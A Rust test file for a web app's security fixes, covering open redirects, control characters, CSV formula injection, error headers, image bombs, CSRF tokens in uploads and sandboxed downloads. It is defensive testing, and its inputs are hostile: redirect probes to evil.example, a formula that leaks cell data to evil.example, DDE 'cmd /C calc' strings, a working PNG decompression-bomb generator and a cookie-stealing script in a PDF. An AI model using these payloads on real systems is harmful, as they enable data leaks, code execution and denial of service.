//! Issue 8's web findings: redirects after sign-in stay on this site, control characters in
//! form and query text are refused with a message, exports never hand a spreadsheet a formula,
//! errors raised in middleware carry the security headers and a request id, image bombs are
//! refused before decoding, upload forms keep the CSRF token out of the URL, and downloads are
//! sandboxed attachments.

use actix_web::test::TestRequest;
use diesel::connection::SimpleConnection;
use diesel::prelude::*;

use crate::common::{Resp, TestApp, PASSWORD};
use crate::documents::{documents_of, newest_activity, post_parts, stored_files, upload, PDF};
use crate::on_both_backends;
use likeperson::schema::{
    activity_types as at, contacts, local_associations as la, organizations as o,
    user_organization_roles as uor, users,
};

on_both_backends!(
    sign_in_follows_next_only_to_a_path_on_this_site,
    control_characters_in_forms_and_queries_are_refused_with_a_message,
    exports_never_hand_a_spreadsheet_a_formula,
    errors_raised_in_middleware_carry_the_security_headers_and_a_request_id,
    an_image_bomb_is_refused_before_it_is_decoded,
    upload_forms_send_the_csrf_token_in_the_body_before_the_file,
    downloads_are_sandboxed_attachments_that_are_never_sniffed,
);

fn assert_security_headers(res: &Resp, what: &str) {
    let csp = res.header("content-security-policy");
    assert!(
        csp.contains("default-src") && csp.contains("frame-ancestors 'none'"),
        "{what}: CSP {csp:?}"
    );
    assert_eq!(res.header("x-content-type-options"), "nosniff", "{what}");
    assert_eq!(res.header("x-frame-options"), "DENY", "{what}");
    assert_eq!(res.header("referrer-policy"), "same-origin", "{what}");
}

fn request_id(res: &Resp) -> String {
    let id = res.header("x-request-id");
    assert!(
        id.len() >= 16 && id.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'),
        "a request id: {id:?}"
    );
    id.to_string()
}

// ---------------------------------------------------------------- 2. open redirect

/// What a browser resolves to this site: a path, without an authority, a scheme, control
/// characters (browsers strip TAB, CR and LF inside URLs) or backslashes (read as slashes).
fn same_origin_path(location: &str) -> bool {
    location.starts_with('/')
        && !location.starts_with("//")
        && !location
            .chars()
            .any(|c| c.is_control() || c.is_whitespace() || c == '\\')
}

const NEXT_PROBES: &[&str] = &[
    "/\t/evil.example",
    "/\n/evil.example",
    "/\r\n/evil.example",
    "\t//evil.example",
    "/\u{0}/evil.example",
    "/\\evil.example",
    "/\\/evil.example",
    "\\\\evil.example",
    "//evil.example",
    "///evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "/ /evil.example",
    " //evil.example",
];

/// Never a 500, never off-site: a same-origin path, or the input refused.
fn assert_stays_here(res: &Resp, next: &str) {
    match res.status {
        303 => assert!(
            same_origin_path(res.location()),
            "next={next:?} went to {:?}",
            res.location()
        ),
        400 | 422 => assert_security_headers(res, next),
        s => panic!("next={next:?} answered {s}: {}", res.body),
    }
}

async fn sign_in_follows_next_only_to_a_path_on_this_site(mut app: TestApp) {
    app.login("mentor@nhf.example").await;
    for next in NEXT_PROBES {
        let token = app.token().await;
        let res = app
            .send(TestRequest::post().uri("/login").set_form([
                ("csrf_token", token.as_str()),
                ("email", "mentor@nhf.example"),
                ("password", PASSWORD),
                ("next", next),
            ]))
            .await;
        assert_stays_here(&res, next);
        // Signed in: the sign-in page sends the user straight on.
        let res = app
            .get(&format!("/login?next={}", likeperson::web::urlencode(next)))
            .await;
        assert_stays_here(&res, next);
    }
    // A path on this site is followed, query included.
    let res = app.get("/login?next=%2Factivities%3Fbufdir%3Dcounts").await;
    assert_eq!(res.status, 303);
    assert_eq!(res.location(), "/activities?bufdir=counts");
    // Signed out, a page asks for sign-in and comes back to itself afterwards.
    app.logout().await;
    let res = app.get("/contacts?q=Ola").await;
    assert_eq!(res.status, 303);
    let login = res.location().to_string();
    assert!(login.starts_with("/login?next="), "{login}");
    let token = app.get(&login).await.csrf();
    let next = login.trim_start_matches("/login?next=");
    let next = percent_encoding::percent_decode_str(next)
        .decode_utf8()
        .unwrap()
        .to_string();
    let res = app
        .send(TestRequest::post().uri("/login").set_form([
            ("csrf_token", token.as_str()),
            ("email", "coordinator@nhf.example"),
            ("password", PASSWORD),
            ("next", next.as_str()),
        ]))
        .await;
    assert_eq!(res.location(), "/contacts?q=Ola");
}

// ---------------------------------------------------------------- 5. control characters

const REFUSED_NB: &str = "tegn som ikke er tillatt";
const REFUSED_EN: &str = "characters that are not allowed";

async fn control_characters_in_forms_and_queries_are_refused_with_a_message(mut app: TestApp) {
    // Sign-in: a NUL in the e-mail address (PostgreSQL refused it with a 500).
    let token = app.get("/login").await.csrf();
    let res = app
        .send(TestRequest::post().uri("/login").set_form([
            ("csrf_token", token.as_str()),
            ("email", "mentor@nhf.example\u{0}"),
            ("password", PASSWORD),
        ]))
        .await;
    assert_eq!(res.status, 422, "{}", res.body);
    assert!(res.has(REFUSED_NB), "{}", res.body);
    assert_security_headers(&res, "refused form");
    let res = app
        .send(
            TestRequest::post()
                .uri("/login")
                .insert_header(("Accept-Language", "en-GB,en;q=0.9"))
                .set_form([
                    ("csrf_token", token.as_str()),
                    ("email", "\u{1b}[31mmentor@nhf.example"),
                    ("password", PASSWORD),
                ]),
        )
        .await;
    assert_eq!(res.status, 422);
    assert!(res.has(REFUSED_EN), "in the user's language: {}", res.body);

    app.login("coordinator@nhf.example").await;
    // Queries: NUL and DEL in a search.
    for q in ["%00", "Ola%7F", "Ola%0A"] {
        let res = app.get(&format!("/contacts?q={q}")).await;
        assert_eq!(res.status, 400, "q={q}: {}", res.body);
        assert!(res.has(REFUSED_NB), "q={q}");
        assert_security_headers(&res, q);
    }
    assert_eq!(app.get("/contacts?q=Ola").await.status, 200);

    // A contact with a NUL in its name is refused and nothing is saved.
    let assoc: String = la::table
        .filter(la::name.eq("NHF Bærum"))
        .select(la::id)
        .first(&mut *app.conn())
        .unwrap();
    let count = |app: &TestApp| -> i64 {
        contacts::table
            .count()
            .get_result(&mut *app.conn())
            .unwrap()
    };
    let before = count(&app);
    let res = app
        .post(
            "/contacts",
            &[
                ("name", "Nils\u{0} Nul"),
                ("association_id", &assoc),
                ("consent_given", "on"),
                ("consent_on", "2025-03-01"),
            ],
        )
        .await;
    assert_eq!(res.status, 422);
    assert!(res.has(REFUSED_NB));
    assert_eq!(count(&app), before, "nothing saved");
    // A line break is text in a multi-line field, not in a one-line one.
    let res = app
        .post(
            "/contacts",
            &[
                ("name", "Nils\nLinjeskift"),
                ("association_id", &assoc),
                ("consent_given", "on"),
                ("consent_on", "2025-03-01"),
            ],
        )
        .await;
    assert_eq!(res.status, 422);
    assert!(res.has(REFUSED_NB));
    let res = app
        .post(
            "/contacts",
            &[
                ("name", "Nils Linjeskift"),
                ("association_id", &assoc),
                ("consent_given", "on"),
                ("consent_on", "2025-03-01"),
                (
                    "sensitive_notes",
                    "Første linje\r\nAndre linje\tmed tabulator",
                ),
            ],
        )
        .await;
    assert_eq!(res.status, 303, "{}", res.body);
    assert_eq!(count(&app), before + 1);

    // An activity: a NUL in the description is refused, line breaks are kept.
    app.logout().await;
    app.login("mentor@nhf.example").await;
    let mentor = app.user_id("mentor@nhf.example");
    let assoc: String = uor::table
        .filter(uor::user_id.eq(mentor))
        .filter(uor::role_id.eq("peer_mentor"))
        .select(uor::local_association_id)
        .first::<Option<String>>(&mut *app.conn())
        .unwrap()
        .unwrap();
    let group: String = at::table
        .inner_join(o::table)
        .filter(o::short_name.eq("NHF"))
        .filter(at::name.eq("Samtalegruppe"))
        .select(at::id)
        .first(&mut *app.conn())
        .unwrap();
    let today = likeperson::activities::service::today().to_string();
    for (description, status) in [("Møte\u{0}", 422), ("Første linje\r\nAndre linje", 303)] {
        let fields = [
            ("activity_type_id", group.as_str()),
            ("occurred_on", today.as_str()),
            ("duration_minutes", "60"),
            ("participants", "4"),
            ("local_association_id", assoc.as_str()),
            ("description", description),
        ];
        let res = app.post("/activities", &fields).await;
        assert_eq!(res.status, status, "{description:?}: {}", res.body);
        assert_eq!(res.has(REFUSED_NB), status == 422);
    }
}

// ---------------------------------------------------------------- 7. CSV formulas

async fn exports_never_hand_a_spreadsheet_a_formula(mut app: TestApp) {
    let nhf: String = o::table
        .filter(o::short_name.eq("NHF"))
        .select(o::id)
        .first(&mut *app.conn())
        .unwrap();
    // Names an organization admin, a coordinator or a mentor could have typed.
    let formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Klikk\")";
    diesel::update(
        at::table
            .filter(at::organization_id.eq(&nhf))
            .filter(at::name.eq("Telefonsamtale")),
    )
    .set(at::name.eq(formula))
    .execute(&mut *app.conn())
    .unwrap();
    diesel::update(users::table.filter(users::email.eq("mentor@nhf.example")))
        .set(users::name.eq("@SUM(1+1)*cmd|' /C calc'!A0"))
        .execute(&mut *app.conn())
        .unwrap();
    for (name, evil) in [
        ("NHF Bærum", "-2+3+cmd|' /C calc'!A0"),
        ("NHF Oslo sentrum", "Oslo,=1+1"),
        ("NHF Oslo øst", "\tTab"),
    ] {
        diesel::update(la::table.filter(la::name.eq(name)))
            .set(la::name.eq(evil))
            .execute(&mut *app.conn())
            .unwrap();
    }
    app.login("coordinator@nhf.example").await;
    let csv = app.get("/activities/export.csv").await;
    assert_eq!(csv.status, 200);
    let body = csv.body.strip_prefix('\u{feff}').expect("a BOM");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .has_headers(false)
        .from_reader(body.as_bytes());
    let mut rows = 0;
    let mut seen_formula = false;
    for record in reader.records() {
        let record = record.unwrap();
        rows += 1;
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
            seen_formula |= cell == format!("'{formula}");
        }
    }
    assert!(rows > 1);
    assert!(seen_formula, "the type's name is kept, behind a quote");
    assert!(body.contains("\"'@SUM(1+1)*cmd|' /C calc'!A0\""));
    // Every cell is quoted, so a spreadsheet that splits on commas does not start a cell at "=1+1".
    assert!(body.contains("\"Oslo,=1+1\""));
    assert!(body.lines().all(|l| l.starts_with('"')), "{body:.300}");
}

// ---------------------------------------------------------------- 8. error responses

async fn errors_raised_in_middleware_carry_the_security_headers_and_a_request_id(mut app: TestApp) {
    // The CSRF middleware cannot read a form body over the limit.
    let big = format!("email={}", "a".repeat(300 * 1024));
    let res = app
        .send(
            TestRequest::post()
                .uri("/login")
                .insert_header(("Content-Type", "application/x-www-form-urlencoded"))
                .set_payload(big),
        )
        .await;
    assert!(res.status >= 400, "{}", res.status);
    assert_security_headers(&res, "oversized form");
    let first = request_id(&res);
    // The default service.
    let res = app.get("/no/such/page").await;
    assert_eq!(res.status, 404);
    assert_security_headers(&res, "404");
    assert_ne!(request_id(&res), first, "one id per request");
    // The session store fails when the session is saved, after the handler has answered.
    app.conn()
        .batch_execute("ALTER TABLE sessions RENAME TO sessions_gone")
        .unwrap();
    let res = app.get("/login").await;
    assert_eq!(res.status, 500, "{}", res.body);
    assert_security_headers(&res, "session store error");
    let id = request_id(&res);
    assert!(
        res.has(&id),
        "the 500 page shows the request id so a user can quote it: {}",
        res.body
    );
    assert!(res.has("<html lang="), "our error page, not a bare text");
}

// ---------------------------------------------------------------- 4. image bomb

fn png_chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend((data.len() as u32).to_be_bytes());
    out.extend(kind);
    out.extend(data);
    let mut crc = flate2::Crc::new();
    crc.update(kind);
    crc.update(data);
    out.extend(crc.sum().to_be_bytes());
}

/// The probe's bomb: a valid PNG of 11,900 × 11,900 pixels, 16-bit RGBA, about 1.1 MB, whose
/// pixels take 1.1 GB decoded. All its pixel bytes are zeros, so a sync-flushed deflate block of
/// zeros that follows zeros is the same every time: compress three, repeat the third, finish with
/// the Adler-32 of the whole (for n zeros: a = 1, b = n mod 65521). Milliseconds, not seconds.
pub(crate) fn png_bomb() -> Vec<u8> {
    use flate2::{Compress, Compression, FlushCompress};
    const SIDE: u32 = 11_900;
    let total = (1 + SIDE as u64 * 8) * SIDE as u64;
    const CHUNK: usize = 1 << 20;
    let zeros = vec![0u8; CHUNK];
    let mut z = Compress::new(Compression::best(), true);
    let mut block = |input: &[u8], flush| {
        let mut out = Vec::with_capacity(64 * 1024);
        let before = z.total_in();
        z.compress_vec(input, &mut out, flush).unwrap();
        assert_eq!(z.total_in() - before, input.len() as u64);
        out
    };
    let mut idat = block(&zeros, FlushCompress::Sync);
    let second = block(&zeros, FlushCompress::Sync);
    let repeat = block(&zeros, FlushCompress::Sync);
    assert_eq!(
        second, repeat,
        "a block of zeros after zeros compresses the same"
    );
    let chunks = total / CHUNK as u64;
    idat.extend(&second);
    for _ in 2..chunks {
        idat.extend(&repeat);
    }
    let rest = (total - chunks * CHUNK as u64) as usize;
    let mut tail = block(&zeros[..rest], FlushCompress::Finish);
    tail.truncate(tail.len() - 4);
    idat.extend(tail);
    let adler = ((total % 65_521) as u32) << 16 | 1;
    idat.extend(adler.to_be_bytes());
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = Vec::new();
    ihdr.extend(SIDE.to_be_bytes());
    ihdr.extend(SIDE.to_be_bytes());
    ihdr.extend([16, 6, 0, 0, 0]); // 16 bits, RGBA, deflate, no filter method, no interlace
    png_chunk(&mut png, b"IHDR", &ihdr);
    png_chunk(&mut png, b"IDAT", &idat);
    png_chunk(&mut png, b"IEND", &[]);
    png
}

async fn an_image_bomb_is_refused_before_it_is_decoded(mut app: TestApp) {
    let bomb = png_bomb();
    assert!(
        (1_000_000..1_300_000).contains(&bomb.len()),
        "{} bytes",
        bomb.len()
    );
    app.login("mentor@nhf.example").await;
    let activity = newest_activity(&app, "mentor@nhf.example");
    let res = upload(&mut app, &activity, "bombe.png", &bomb).await;
    assert_eq!(res.status, 422, "{}", res.body);
    assert!(
        res.has("Bildet har for mange piksler"),
        "a message at the field"
    );
    assert!(documents_of(&app, &activity).is_empty());
    assert!(stored_files(&app).is_empty());
}

// ---------------------------------------------------------------- issue 9, 10: upload tokens

async fn upload_forms_send_the_csrf_token_in_the_body_before_the_file(mut app: TestApp) {
    app.login("mentor@nhf.example").await;
    let activity = newest_activity(&app, "mentor@nhf.example");
    let page = app.get(&format!("/activities/{activity}")).await;
    let token = page.csrf();
    let form_at = page
        .body
        .find("enctype=\"multipart/form-data\"")
        .expect("an upload form");
    let form = &page.body[form_at..];
    let form = &form[..form.find("</form>").unwrap()];
    assert!(!form.contains("csrf_token="), "no token in the action URL");
    let hidden = form.find("name=\"csrf_token\"").expect("the token field");
    assert!(
        hidden < form.find("type=\"file\"").unwrap(),
        "the token comes before the file"
    );
    let uri = format!("/activities/{activity}/documents");
    // In the URL only (where it would end up in access logs): refused.
    let res = post_parts(
        &mut app,
        &format!("{uri}?csrf_token={token}"),
        &[("file", Some("a.pdf"), PDF)],
    )
    .await;
    assert_eq!(res.status, 403);
    // After the file: refused, the file is never accepted.
    let res = post_parts(
        &mut app,
        &uri,
        &[
            ("file", Some("a.pdf"), PDF),
            ("csrf_token", None, token.as_bytes()),
        ],
    )
    .await;
    assert_eq!(res.status, 403);
    // A wrong one first: refused.
    let res = post_parts(
        &mut app,
        &uri,
        &[
            ("csrf_token", None, b"forged"),
            ("file", Some("a.pdf"), PDF),
        ],
    )
    .await;
    assert_eq!(res.status, 403);
    assert_security_headers(&res, "refused upload");
    assert!(documents_of(&app, &activity).is_empty());
    assert!(stored_files(&app).is_empty());
    // Before the file, as the form sends it.
    let res = post_parts(
        &mut app,
        &uri,
        &[
            ("csrf_token", None, token.as_bytes()),
            ("file", Some("a.pdf"), PDF),
        ],
    )
    .await;
    assert_eq!(res.status, 303, "{}", res.body);
    // In the header, as htmx sends it.
    let res = app
        .send(
            TestRequest::post()
                .uri(&uri)
                .insert_header(("X-CSRF-Token", token.as_str()))
                .insert_header((
                    "Content-Type",
                    "multipart/form-data; boundary=----likeperson-test-7MA4YWxkTrZu0gW",
                ))
                .set_payload(crate::documents::multipart_parts(&[(
                    "file",
                    Some("b.pdf"),
                    PDF,
                )])),
        )
        .await;
    assert_eq!(res.status, 303, "{}", res.body);
    assert_eq!(documents_of(&app, &activity).len(), 2);
}

// ---------------------------------------------------------------- PDFs as they came

async fn downloads_are_sandboxed_attachments_that_are_never_sniffed(mut app: TestApp) {
    app.login("mentor@nhf.example").await;
    let activity = newest_activity(&app, "mentor@nhf.example");
    let mut pdf = PDF.to_vec();
    pdf.extend_from_slice(b"<html><script>alert(document.cookie)</script>\n");
    let res = upload(&mut app, &activity, "aktiv.pdf", &pdf).await;
    assert_eq!(res.status, 303, "{}", res.body);
    let d = &documents_of(&app, &activity)[0];
    let res = app
        .get(&format!("/activities/{activity}/documents/{}", d.id))
        .await;
    assert_eq!(res.status, 200);
    assert_eq!(res.bytes, pdf, "stored and served as it came");
    assert_eq!(res.header("content-type"), "application/pdf");
    assert!(res.header("content-disposition").starts_with("attachment"));
    assert_eq!(res.header("x-content-type-options"), "nosniff");
    let csp = res.header("content-security-policy");
    assert!(
        csp.contains("sandbox") && csp.contains("default-src 'none'"),
        "{csp}"
    );
}
